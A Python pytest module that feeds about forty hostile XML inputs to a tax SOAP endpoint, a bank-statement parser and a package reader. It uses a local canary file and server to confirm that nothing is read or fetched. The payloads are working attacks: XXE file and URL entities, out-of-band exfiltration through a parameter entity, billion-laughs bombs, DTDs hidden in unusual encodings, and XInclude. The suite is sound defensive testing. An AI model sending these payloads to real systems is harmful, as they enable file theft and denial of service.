"""Hostile XML at each door that takes it: nothing is read, nobody is asked, it is refused fast, the door stays open.

Doors: notices of tax (SOAP), bank statements (camt.053), descriptions of the exchange node's packages.
"""

from __future__ import annotations

import ctypes
import http.server
import io
import os
import socket
import struct
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests

from exchange_adapters.tax_soap.endpoint import application
from ingest import bank_camt, bank_pages, package
from ingest.package import PackageError
from ingest.unpacker import Unpacker
from simulator.counterparties.http import HttpServer
from warehouse_sql import open_warehouse

SECRET = "CANARY-7f3d"
ACCOUNT, NUMBER, PACKAGE = "6227000000000001", "B0001", "P-1"


# What a hostile sender writes: before the root, in a value, inside the root; `{file}` and `{port}` are the canaries'.
@dataclass(frozen=True)
class Payload:
    prolog: str = ""
    value: str = "{good}"
    inside: str = ""
    attribute: str = ""
    encode: Callable[[str], bytes] = lambda text: text.encode()
    refused: bool = True


def entity(target: str) -> Payload:
    return Payload(f'<!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>', "{good}&x;")


def coded(codec: str, declared: str | None = None) -> Callable[[str], bytes]:
    return lambda text: text.replace("UTF-8", declared or codec, 1).encode(codec)


def plain(text: str) -> str:
    return text.encode("ascii", "ignore").decode()


URL = "http://127.0.0.1:{port}"
ROWS = "&b;" * 30
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DTD = '<!DOCTYPE r [<!ENTITY x SYSTEM "file://{file}">]>'
PAYLOADS = {
    "a file": entity("file://{file}"),
    "a file, plain path": entity("{file}"),
    "a file, from localhost": entity("file://localhost{file}"),
    "a URL": entity(URL + "/entity"),
    "a URL with a number as host": entity("http://2130706433:{port}/number"),
    "FTP": entity("ftp://127.0.0.1:{port}/x"),
    "netdoc": entity("netdoc://{file}"),
    "jar": entity("jar:" + URL + "/x.jar!/x"),
    "php filter": entity("php://filter/read=convert.base64-encode/resource={file}"),
    "expect": entity("expect://id"),
    "gopher": entity("gopher://127.0.0.1:{port}/x"),
    "a device that never ends": entity("file:///dev/zero"),
    "parameter entity": Payload(f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{URL}/p"> %p;]>'),
    "file sent out by a parameter entity": Payload(
        '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % s "<!ENTITY &#x25; o SYSTEM '
        f"'{URL}/?%f;'" + '>"> %s; %o;]>'
    ),
    "external DTD": Payload(f'<!DOCTYPE r SYSTEM "{URL}/dtd">'),
    "public DTD": Payload(f'<!DOCTYPE r PUBLIC "-//x//y" "{URL}/public">'),
    "DTD of the machine": Payload('<!DOCTYPE r SYSTEM "file://{file}">'),
    "empty DTD": Payload("<!DOCTYPE r>"),
    "default attribute": Payload('<!DOCTYPE r [<!ATTLIST r a CDATA "b">]>'),
    "notation": Payload(f'<!DOCTYPE r [<!NOTATION n SYSTEM "{URL}/n"><!ENTITY x SYSTEM "{URL}/u" NDATA n>]>'),
    "billion laughs": Payload(f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
    "quadratic": Payload(f'<!DOCTYPE r [<!ENTITY b "{"b" * 20_000}">]>', ROWS),
    "entity of itself": Payload('<!DOCTYPE r [<!ENTITY x "&y;"><!ENTITY y "&x;">]>', "&x;"),
    "entity in an attribute": Payload(DTD, attribute=' a="&x;"'),
    "UTF-16 hides a DTD": Payload(DTD, "{good}&x;", encode=coded("utf-16")),
    "UTF-32 hides a DTD": Payload(DTD, "{good}&x;", encode=coded("utf-32")),
    "UTF-7 hides a DTD": Payload(DTD, "{good}&x;", encode=coded("utf-7")),
    "EBCDIC hides a DTD": Payload(DTD, "{good}&x;", encode=lambda text: coded("cp037", "IBM037")(plain(text))),
    "GB18030 with a DTD": Payload(DTD, "{good}&x;", encode=coded("gb18030")),
    "an encoding that is none": Payload(encode=coded("utf-8", "X-CANARY")),
    "100,000 deep": Payload(inside="<d>" * 100_000 + "</d>" * 100_000),
    "50,000 attributes": Payload(attribute="".join(f' a{n}="1"' for n in range(50_000)), refused=False),
    "a name of 300 KiB": Payload(inside=f"<{'n' * 300_000}/>", refused=False),
    # Without a DTD, and a reader that follows it would have to be told to.
    "XInclude of a file": Payload(
        inside='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{file}"/>',
        refused=False,
    ),
    "XInclude of a URL": Payload(
        inside=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{URL}/x"/>', refused=False
    ),
    "stylesheet": Payload(f'<?xml-stylesheet type="text/xsl" href="{URL}/s.xsl"?>', refused=False),
    "schema location": Payload(
        attribute=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:x {URL}/x.xsd" xsi:noNamespaceSchemaLocation="{URL}/y.xsd"',
        refused=False,
    ),
    "base": Payload(attribute=f' xml:base="{URL}/"', inside='<a href="x"/>', refused=False),
    "answer elsewhere": Payload(
        inside=f'<a:ReplyTo xmlns:a="http://www.w3.org/2005/08/addressing"><a:Address>{URL}/r</a:Address></a:ReplyTo>',
        refused=False,
    ),
    "attachment elsewhere": Payload(
        inside=f'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="{URL}/m"/>', refused=False
    ),
}


@dataclass
class Canary:
    """A file and a server that nobody must open; `touched` says who did."""

    path: Path
    port: int
    asked: list[str]
    watch: int

    def touched(self) -> list[str]:
        try:
            opened = [f"opened {self.path}"] * bool(os.read(self.watch, 4096))
        except BlockingIOError:
            opened = []
        return opened + self.asked


@pytest.fixture(scope="module")
def canary(tmp_path_factory) -> Iterator[Canary]:
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def handle(self) -> None:
            asked.append("connected")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    path = tmp_path_factory.mktemp("canary") / "secret.txt"
    path.write_text(SECRET)
    libc = ctypes.CDLL(None, use_errno=True)  # opening by libxml2 is seen by no hook of Python's
    watch = libc.inotify_init1(os.O_NONBLOCK)
    assert libc.inotify_add_watch(watch, str(path).encode(), 0x20 | 0x1) > 0  # IN_OPEN, IN_ACCESS
    yield Canary(path, server.server_address[1], asked, watch)
    os.close(watch)
    server.shutdown()


def test_the_canaries_sing(canary: Canary) -> None:
    """Were somebody to read or ask, this test's own tools would tell."""
    assert canary.touched() == []
    canary.path.read_text()
    with socket.create_connection(("127.0.0.1", canary.port)):
        time.sleep(0.1)
    assert canary.touched() == [f"opened {canary.path}", "connected"]
    canary.asked.clear()


def soap(payload: Payload, fill: Callable[[str], str]) -> bytes:
    values = {"batchNo": payload.value.replace("{good}", NUMBER), "table": "TX01", "region": "632300",
              "period": "202401", "seq": "1", "file": "TAX_TX01_632300_202401_001.zip", "sha256": "a" * 64,
              "records": "7", "transmitType": "1", "sentAt": "2024-02-03T02:11:09+08:00"}  # fmt: skip
    inner = "".join(f"<{name}>{value}</{name}>" for name, value in values.items())
    header = f"<s:Header>{payload.inside}</s:Header>" if payload.inside else ""
    text = (
        f'<?xml version="1.0" encoding="UTF-8"?>{payload.prolog}'
        f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">{header}<s:Body>'
        f'<notifyBatch xmlns="urn:qh:ssf:tax:v1"{payload.attribute}><notice>{inner}</notice></notifyBatch>'
        "</s:Body></s:Envelope>"
    )
    return payload.encode(fill(text))


def camt(payload: Payload, fill: Callable[[str], str]) -> bytes:
    from tests.ingest.test_bank_statement import ENTRIES, xml

    text = xml(ENTRIES, prolog=payload.prolog, account=payload.value.replace("{good}", ACCOUNT)).decode()
    text = text.replace('camt.053.001.02"', f'camt.053.001.02"{payload.attribute}', 1)
    return payload.encode(fill(text.replace("</Stmt>", f"{payload.inside}</Stmt>")))


def description(payload: Payload, fill: Callable[[str], str]) -> bytes:
    from tests.ingest.test_package import SHA, xml

    listed = f'<member name="a.csv" sha256="{SHA(b"a").hexdigest()}"/>'
    text = xml(listed, id=payload.value.replace("{good}", PACKAGE)).decode()
    text = text.replace("?>", f"?>{payload.prolog}", 1).replace("<package>", f"<package{payload.attribute}>", 1)
    return payload.encode(fill(text.replace("<members>", f"{payload.inside}<members>", 1)))


class Soap:
    make = staticmethod(soap)

    def __init__(self, base: Path) -> None:
        self._url = f"duckdb://{base}/w.duckdb"
        self._server = HttpServer(application(self._url))
        self._address = f"http://127.0.0.1:{self._server.start()}/tax/notify"

    def refuses(self, body: bytes) -> str | None:
        """Why it is refused; None if it is taken."""
        answer = requests.post(self._address, data=body, headers={"Content-Type": "text/xml"}, timeout=20)
        return None if answer.status_code == 200 else answer.text

    def stored(self) -> str:
        with open_warehouse(self._url) as warehouse:
            return str(warehouse.query("select * from control.notice").to_pylist())

    def close(self) -> None:
        self._server.stop()


class Camt:
    make = staticmethod(camt)

    def __init__(self, base: Path) -> None:
        self._seen = ""

    def refuses(self, body: bytes) -> str | None:
        try:
            for statement in bank_pages.statements(bank_camt.pages(io.BytesIO(body))):
                self._seen += str(statement)
        except bank_pages.RefusedError as error:
            return f"{error} {error.reason}"
        return None

    def stored(self) -> str:
        return self._seen

    def close(self) -> None: ...


class Packages:
    make = staticmethod(description)

    def __init__(self, base: Path) -> None:
        self._path, self._unpacker, self._seen = base / "package.zip", Unpacker(), ""

    def refuses(self, body: bytes) -> str | None:
        with zipfile.ZipFile(self._path, "w", zipfile.ZIP_STORED) as archive:
            archive.writestr("package.xml", body)
            archive.writestr("a.csv", b"a")
        try:
            self._seen += str(package.read(self._path, PACKAGE, self._unpacker))
        except PackageError as error:
            return f"{error.code} {error}"
        return None

    def stored(self) -> str:
        return self._seen

    def close(self) -> None:
        self._unpacker.__exit__()


@pytest.fixture(scope="module", params=[Soap, Camt, Packages])
def door(request, tmp_path_factory):
    made = request.param(tmp_path_factory.mktemp("door"))
    yield made
    made.close()


def memory_peak() -> int:
    """Peak of this process's memory in KiB since it was last forgotten."""
    status = Path("/proc/self/status").read_text()
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM")))


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_is_read_nobody_is_asked_and_the_door_stays_open(name: str, door, canary: Canary) -> None:
    payload = PAYLOADS[name]

    def fill(text: str) -> str:
        return text.replace("{file}", str(canary.path)).replace("{port}", str(canary.port))

    body = door.make(payload, fill)
    Path("/proc/self/clear_refs").write_text("5")
    before, started = memory_peak(), time.process_time()
    told = door.refuses(body)
    assert time.process_time() - started < 2
    assert memory_peak() - before < 300 * 1024
    assert canary.touched() == []
    assert SECRET not in (told or "") + door.stored()
    if payload.refused:
        assert told, "it was taken"
        assert len(told) < 2000 and ROWS not in told
    assert door.refuses(door.make(Payload(), str)) is None, "a good one is no longer taken"


def test_there_are_twenty_five_and_more() -> None:
    assert len(PAYLOADS) >= 25
    made = {name: soap(payload, str) for name, payload in PAYLOADS.items()}
    assert len(set(made.values())) == len(made)
    assert struct.calcsize("P") == 8
